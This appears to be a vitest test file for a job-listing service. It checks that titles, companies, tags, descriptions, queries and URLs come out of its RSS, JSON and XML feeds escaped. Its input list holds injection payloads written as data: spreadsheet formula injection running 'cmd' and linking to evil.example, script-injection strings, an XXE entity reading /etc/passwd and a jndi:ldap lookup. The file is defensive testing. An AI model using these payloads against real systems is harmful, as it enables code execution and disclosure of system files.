/** Texts that want to be markup, formulas or the end of something (the inputs of class C17), in every feed and field. */
import fc from "fast-check";
import { beforeEach, describe, expect, it } from "vitest";
import { textOf, unsafeIn, xmlOf, xmlText } from "../../support/markup.ts";
import { JOB_POSTING, JSON_FEED } from "../../support/published-schemas.ts";
import { type TestService, testService } from "../../support/service.ts";

let service: TestService;
beforeEach(async () => {
  service = await testService();
});

const INPUTS = [
  "=1+1",
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd",
  "\uff1d1+1",
  '"quoted"',
  "'single'",
  "a;b,c",
  "]]>",
  "]]]]>>",
  "]]]]><![CDATA[>",
  "<![CDATA[x]]>",
  "]]><script>alert(1)</script><![CDATA[",
  "</script><script>alert(1)</script>",
  "<!--<script>",
  "--><b>",
  "</title></item></channel></rss>",
  "</job></source>",
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '<!ENTITY lol "lol">&lol;&lol;',
  "&lt;b&gt; &amp;amp; &#60; &nbsp;",
  "<?xml version='1.0'?>",
  "%00%0a{{7*7}}$\u007bjndi:ldap://evil.example}",
  "😀 astral \u{10ffff}",
  "שלום عالم",
  "e\u0301 \u00e9 \ufeff",
  "\ufffe\uffff non-characters",
  "\\u003cscript\\u003e",
] as const;

/** Where in a listing, and where in each feed it comes out as a text of its own. */
type Rss = { title: string; "dc:creator": string; category: string[] };
type Json = { title?: string; authors?: { name: string }[] | undefined; tags?: string[] | undefined };
type Job = { title: string; company: string; category: string };

const FIELDS = {
  title: {
    of: (text: string) => ({ title: text }),
    rss: ({ title }: Rss) => title,
    json: ({ title }: Json) => title,
    xml: ({ title }: Job) => title,
  },
  company: {
    of: (text: string) => ({ company: { name: text } }),
    rss: (item: Rss) => item["dc:creator"],
    json: ({ authors }: Json) => authors?.[0]?.name,
    xml: ({ company }: Job) => company,
  },
  tag: {
    of: (text: string) => ({ tags: [text] }),
    rss: ({ category }: Rss) => category[0],
    json: ({ tags }: Json) => tags?.[0],
    xml: ({ category }: Job) => category,
  },
} as const;

/** What each feed is, and its only item. */
async function feeds(query = "") {
  const names = ["rss", "json", "xml"];
  const texts = await Promise.all(names.map((name) => service.call("GET", `/v1/feed.${name}${query}`)));
  const [rss = "", json = "", xml = ""] = texts.map(({ text }) => text);
  const { channel } = xmlOf(rss).rss;
  const { source } = xmlOf(xml);
  const jsonFeed = JSON_FEED.parse(JSON.parse(json));
  // Empty when nothing was found: then nobody looks at it.
  const none: Partial<(typeof jsonFeed.items)[number]> = {};
  return {
    rss: channel,
    json: jsonFeed,
    xml: source,
    items: { rss: channel.item?.[0], json: jsonFeed.items[0] ?? none, xml: source.job?.[0] },
  };
}

describe.each(Object.entries(FIELDS))("a %s in a feed", (_name, { of, rss, json, xml }) => {
  it.each(INPUTS)("%j comes out as it went in", async (text) => {
    expect((await service.create(of(text))).status).toBe(201);
    const read = await feeds();
    expect(json(read.items.json)).toBe(text);
    expect(rss(read.items.rss)).toBe(xmlText(text));
    expect(xml(read.items.xml)).toBe(xmlText(text));
  });
});

describe("a description in a feed", () => {
  it.each(INPUTS)("%j is read as that text and nothing else", async (value) => {
    await service.create({ description: { format: "text", value } });
    const read = await feeds();
    for (const html of [read.items.rss.description, read.items.json.content_html, read.items.xml.description]) {
      expect(unsafeIn(html, "fragment")).toEqual([]);
      expect(textOf(html).trim()).toBe(xmlText(value).trim());
    }
  });
});

describe("a query in a feed", () => {
  it.each(INPUTS)("%j is text in its title and escaped in its addresses", async (q) => {
    await service.create();
    const read = await feeds(`?q=${encodeURIComponent(q)}`);
    expect(read.json.title).toBe(`Jobs: ${q}`);
    expect(read.rss.title).toBe(`Jobs: ${xmlText(q)}`);
    expect(read.xml.publisher).toBe(`Jobs: ${xmlText(q)}`);
    const self = new URL(read.rss["atom:link"][0]["@href"]);
    expect(self.searchParams.get("q")).toBe(q);
    expect(new URL(read.json.feed_url).searchParams.get("q")).toBe(q);
  });
});

describe("a JobPosting", () => {
  it.each(INPUTS)("with %j can stand in a script element, and is read back whole", async (text) => {
    const { json } = await service.create({ title: text, company: { name: text }, requisitionId: text });
    const posting = await service.call("GET", `/v1/listings/${json.id}/jsonld`);
    expect(posting.text).not.toMatch(/[<>&\u2028\u2029]/);
    expect(JOB_POSTING.parse(posting.json)).toMatchObject({
      title: text,
      hiringOrganization: { name: text },
      identifier: { name: text, value: text },
    });
  });
});

describe("addresses in a feed", () => {
  it.each([
    "https://a.example/?a=1&b=2&amp;c=3",
    "https://a.example/'single'",
    "https://a.example/]]%3E?x=]]",
    "https://a.example/%3Cscript%3E",
    "https://a.example/ü/日本/😀",
    "https://ünïcode.example/",
  ])("%s comes out as it went in", async (url) => {
    expect((await service.create({ url })).status).toBe(201);
    const read = await feeds();
    expect([read.items.rss.link, read.items.json.url, read.items.xml.url]).toEqual([url, url, url]);
    const loc: string = xmlOf((await service.call("GET", "/sitemap.xml")).text).urlset.url[0].loc;
    expect(loc).toMatch(/^[!-~]+$/);
    expect(new URL(loc).href).toBe(new URL(url).href);
  });
});

it("any text comes out of any feed as what XML can hold of it", async () => {
  const line = fc
    .string({ unit: "binary", minLength: 1, maxLength: 40 })
    .map((text) => `x${text.toWellFormed()}`.replace(/[\p{Cc}\u2028-\u202e\u2066-\u2069]/gu, "·"));
  const prose = fc
    .string({ unit: "binary", minLength: 1, maxLength: 200 })
    .map((text) => text.toWellFormed().replace(/(?![\t\n\r])\p{Cc}/gu, "·"));
  await fc.assert(
    fc.asyncProperty(line, prose, fc.constantFrom("markdown", "html", "text"), async (title, value, format) => {
      service = await testService();
      const created = await service.create({ title, description: { format, value } });
      expect([created.status, created.json.errors]).toEqual([201, undefined]);
      const read = await feeds();
      expect(read.items.json.title).toBe(title);
      expect([read.items.rss.title, read.items.xml.title]).toEqual([xmlText(title), xmlText(title)]);
      for (const html of [read.items.rss.description, read.items.json.content_html, read.items.xml.description]) {
        expect(unsafeIn(html ?? "", "fragment")).toEqual([]);
      }
    }),
    { numRuns: 150 },
  );
});
